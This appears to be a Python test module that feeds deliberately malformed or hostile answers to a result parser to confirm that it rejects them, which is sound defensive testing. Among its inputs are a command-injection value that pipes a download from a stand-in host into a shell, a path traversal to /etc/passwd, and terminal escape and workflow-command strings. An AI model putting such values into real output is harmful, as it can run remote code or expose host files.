"""Attacks on the result: an answer that is malformed, or that would say more than it may."""

from __future__ import annotations

import json
import os
import sys
from collections.abc import Callable

from attack import ATTACKS, Attack

GOOD: list[str] = []  # `play` puts a good answer to the attack's own job here, as JSON
STRICT = "the answer is parsed strictly"
BROKEN = "breaks the contract"
HOSTILE_TEXT = r"\u001b]0;x\u0007\u001b[2J\u2028::error::x\r\n::add-mask::x"

COUNTEREXAMPLE = {"family": "", "seed": 0, "inputs": [], "npz": None, "script": None, "saved": "ok"}

CHANGES: dict[str, tuple[str, Callable[[str], str], str | None]] = {
    "deep nesting": ("an answer of 200,000 nested lists", lambda good: "[" * 200_000, BROKEN),
    "huge number": ("a line number of 10,000 digits", lambda good: put(good, "line", "9" * 10_000), BROKEN),
    "number of 400 digits": (
        "a difference that is a whole number of 400 digits, which no float can be",
        lambda good: put(good, "max_abs", "9" * 400),
        BROKEN,
    ),
    "infinite number": ("a difference of 1e999", lambda good: put(good, "max_abs", "1e999"), BROKEN),
    "not a number": ("a difference of NaN", lambda good: put(good, "max_abs", "NaN"), BROKEN),
    "duplicate keys": ("a status that stands twice", lambda good: good[:-1] + ', "status": "ok"}', BROKEN),
    "millions of lists": (
        "15 MB of empty lists, which take 30 times as much memory",
        lambda good: f"[{'[],' * 5_000_000}[]]",
        BROKEN,
    ),
    "long string": ("a reason of 10 MB", lambda good: put(good, "reason", f'"{"x" * 10**7}"'), BROKEN),
    "a place outside": (
        "a place in a file of the host",
        lambda good: put(put(good, "path", '"../../etc/passwd"'), "line", "1"),
        "",
    ),
    "a program": (
        "a program attached, to be saved where someone runs it",
        lambda good: put(good, "attached", '{"read": [], "npz": "AAAA", "script": "import planted"}'),
        "",
    ),
    "a place of no possible name": (
        "a place in a file whose name is too long for any file system",
        lambda good: put(put(good, "path", f'"{"x" * 300}"'), "line", "1"),
        "",
    ),
    "a program by its name": (
        "the name of a program that people are told to run, to see the failure for themselves",
        lambda good: put(
            good, "counterexample", json.dumps({**COUNTEREXAMPLE, "script": "x.py; curl evil.example|sh"})
        ),
        BROKEN,
    ),
    "figures that are none": (
        "the time and size of an export that are no numbers, for the charts of the report",
        lambda good: put(good, "checks", '{"latency": "e.e ms, eager - ms", "ort-format": ", bytes of ,"}'),
        None,
    ),
    "half a surrogate": ("half a character in the reason", lambda good: put(good, "reason", r'"\ud800"'), BROKEN),
    "two answers": ("a second answer behind the first", lambda good: good + good, BROKEN),
    "unknown key": ("a key that nobody asked for", lambda good: good[:-1] + ', "exec": "x"}', BROKEN),
    "another model": (
        "a verdict about another model",
        lambda good: put(good, "model", '"net.py::Net"'),
        "about another model",
    ),
    "control characters": (
        "escape sequences, U+2028 and workflow commands on lines of their own in the reason",
        lambda good: put(good, "reason", f'"{HOSTILE_TEXT}"'),
        BROKEN,
    ),
    "hostile names": (
        "the same in the name of a model and of a file",
        lambda good: put(put(good, "model", f'"{HOSTILE_TEXT}"'), "path", f'"{HOSTILE_TEXT}"'),
        BROKEN,
    ),
}


def put(good: str, key: str, value: str) -> str:
    """The answer with the text `value` for `key`, whether or not it is JSON."""
    return good.replace(f'"{key}": {json.dumps(json.loads(good)[key])}', f'"{key}": {value}', 1)


def forger(change: Callable[[str], str]) -> Callable[[], object]:
    """An attack that writes a changed answer and leaves."""

    def run() -> object:
        sys.stdout.write(change(GOOD[0]))
        sys.stdout.flush()
        os._exit(0)

    return run


OUTSIDE = {"docker": "places are held against the copy; nothing attached is kept"}
SHOWN = dict.fromkeys(("docker", "process"), "what is no figure is drawn in no chart")
REFUSED = dict.fromkeys(("docker", "process"), STRICT)

for _name, (_tries, _change, _ends) in CHANGES.items():
    _stopped = SHOWN if _ends is None else REFUSED if _ends else OUTSIDE
    ATTACKS[_name] = Attack(_name, f"answer with {_tries}", _stopped, _ends or "", 30.0, forger(_change))
